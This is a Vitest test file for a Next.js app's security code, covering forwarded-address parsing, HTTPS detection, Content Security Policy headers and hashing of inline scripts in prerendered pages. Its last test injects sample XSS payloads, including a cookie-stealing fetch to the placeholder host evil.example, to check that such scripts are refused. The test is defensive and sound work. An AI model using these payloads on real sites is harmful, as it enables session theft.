import { describe, expect, it } from "vitest";
import { clientAddressFrom, requestIsHttps } from "@/lib/server/security/client-address";
import { createHash } from "node:crypto";
import { contentSecurityPolicy, inlineScriptHashes, storedPagePolicy, usesNonce } from "@/lib/server/security/csp";

describe("clientAddressFrom", () => {
  it("without a trusted proxy: the single entry our preload wrote (the socket's)", () => {
    expect(clientAddressFrom(new Headers({ "x-forwarded-for": "::ffff:127.0.0.1" }), {})).toBe("127.0.0.1");
    expect(clientAddressFrom(new Headers({ "x-forwarded-for": "::1" }), {})).toBe("::1");
    expect(clientAddressFrom(new Headers(), {})).toBe("unknown");
  });

  it("behind N trusted proxies: the N-th entry from the right; what the client wrote further left is ignored", () => {
    const h = new Headers({ "x-forwarded-for": "6.6.6.6, 203.0.113.5" });
    expect(clientAddressFrom(h, { TRUSTED_PROXY_HOPS: "1" })).toBe("203.0.113.5");
    expect(clientAddressFrom(new Headers({ "x-forwarded-for": "6.6.6.6, 203.0.113.5, 10.0.0.2" }), { TRUSTED_PROXY_HOPS: "2" })).toBe("203.0.113.5");
    expect(clientAddressFrom({ "x-forwarded-for": "1.1.1.1, 198.51.100.4:5123" }, { TRUSTED_PROXY_HOPS: "1" })).toBe("198.51.100.4");
  });

  it("refuses garbage as an address", () => {
    expect(clientAddressFrom(new Headers({ "x-forwarded-for": "<script>" }), {})).toBe("unknown");
  });

  it("believes X-Forwarded-Proto only from a trusted proxy", () => {
    expect(requestIsHttps(new Headers({ "x-forwarded-proto": "https" }), {})).toBe(false);
    expect(requestIsHttps(new Headers({ "x-forwarded-proto": "https" }), { TRUSTED_PROXY_HOPS: "1" })).toBe(true);
    expect(requestIsHttps(new Headers(), { NEXTAUTH_URL: "https://reports.example.gov.cn" })).toBe(true);
  });
});

describe("content security policy", () => {
  const scriptSrc = (csp: string) => csp.split(";").map((d) => d.trim()).find((d) => d.startsWith("script-src ")) ?? "";

  it("nonce policy: strict-dynamic with the nonce, no unsafe-inline scripts", () => {
    const csp = contentSecurityPolicy({ nonce: "abc123", dev: false });
    expect(csp).toContain("script-src 'self' 'nonce-abc123' 'strict-dynamic'");
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(csp).not.toContain("unsafe-eval");
  });

  it("no policy allows inline script without a nonce or a hash: a stored page's names its scripts' hashes", () => {
    expect(scriptSrc(contentSecurityPolicy({ nonce: null, dev: false }))).toBe("script-src 'self'");
    expect(scriptSrc(contentSecurityPolicy({ hashes: ["sha256-abc=", "sha256-def="], dev: false }))).toBe("script-src 'self' 'sha256-abc=' 'sha256-def='");
    for (const csp of [contentSecurityPolicy({ nonce: null, dev: true }), contentSecurityPolicy({ hashes: ["sha256-abc="], dev: false }), storedPagePolicy(NEXT_PAGE)]) {
      expect(scriptSrc(csp)).not.toContain("unsafe-inline");
    }
  });

  it("both policies forbid framing, plugins, foreign base and images from other hosts", () => {
    for (const csp of [contentSecurityPolicy({ nonce: "n", dev: false }), contentSecurityPolicy({ hashes: ["sha256-abc="], dev: false }), storedPagePolicy(NEXT_PAGE)]) {
      for (const d of ["frame-ancestors 'none'", "object-src 'none'", "base-uri 'self'", "img-src 'self' data:", "form-action 'self'"]) expect(csp).toContain(d);
    }
  });

  it("the signed-in areas and the sign-in form are never stored pages", () => {
    for (const p of ["/login", "/me", "/workspace", "/workspace/reports/x", "/review/640122", "/admin/users"]) expect(usesNonce(p), p).toBe(true);
    for (const p of ["/", "/reports/640122100000/2020", "/published/640122100000/2020/1", "/loginx", "/workspaces"]) expect(usesNonce(p), p).toBe(false);
  });
});

// what Next 16 (Turbopack) writes into a prerendered page, abridged
const BOOT = `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/3fg1hrbxim3mp.js"],"runtimeModuleIds":[94553]});`;
const QUEUE = "(self.__next_f=self.__next_f||[]).push([0])";
const FLIGHT = String.raw`self.__next_f.push([1,"1c:[\"$\",\"p\",\"p-7\",{\"children\":\"\u003c/script\u003e习岗镇\"}]\n"])`;
const NEXT_PAGE = [
  `<!DOCTYPE html><html lang="zh-CN"><head><script src="/_next/static/chunks/a.js" async=""></script>`,
  `<script src="/_next/static/chunks/b.js" noModule=""></script><script id="_R_">${BOOT}</script></head><body>`,
  `<p>贺兰县习岗镇</p><script>${QUEUE}</script><script>${FLIGHT}</script><script>${FLIGHT}</script>`,
  `<script type="application/ld+json">{"@context":"https://schema.org"}</script></body></html>`,
].join("");
const sha = (text: string) => `sha256-${createHash("sha256").update(text, "utf8").digest("base64")}`;

describe("inline script hashes of a stored page", () => {
  it("hashes Next's bootstrap and RSC payload scripts, each once, and skips external scripts and data blocks", () => {
    expect(inlineScriptHashes(NEXT_PAGE)).toEqual({ hashes: [sha(BOOT), sha(QUEUE), sha(FLIGHT)], refused: 0 });
    // as the route cache keeps the page: its UTF-8 bytes
    expect(inlineScriptHashes(Buffer.from(NEXT_PAGE)).hashes).toEqual([sha(BOOT), sha(QUEUE), sha(FLIGHT)]);
    expect(storedPagePolicy(NEXT_PAGE, false)).toContain(`script-src 'self' '${sha(BOOT)}' '${sha(QUEUE)}' '${sha(FLIGHT)}';`);
  });

  it("gives no hash to an inline script that is not one of Next's shapes, so the browser refuses it", () => {
    const injected = [
      "alert(document.cookie)",
      `self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)//"])`,
      `self.__next_f.push([1,"x"+alert(1)+"y"])`,
      `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"a":alert(1)});`,
      `(self.__next_f=self.__next_f||[]).push([0]);alert(1)`,
    ];
    const page = NEXT_PAGE.replace("<p>贺兰县习岗镇</p>", injected.map((s) => `<script>${s}</script>`).join("") + `<SCRIPT nonce="x">alert(2)</SCRIPT>`);
    const { hashes, refused } = inlineScriptHashes(page);
    expect(refused).toBe(injected.length + 1);
    expect(hashes).toEqual([sha(BOOT), sha(QUEUE), sha(FLIGHT)]);
    for (const s of injected) expect(storedPagePolicy(page)).not.toContain(sha(s));
  });
});
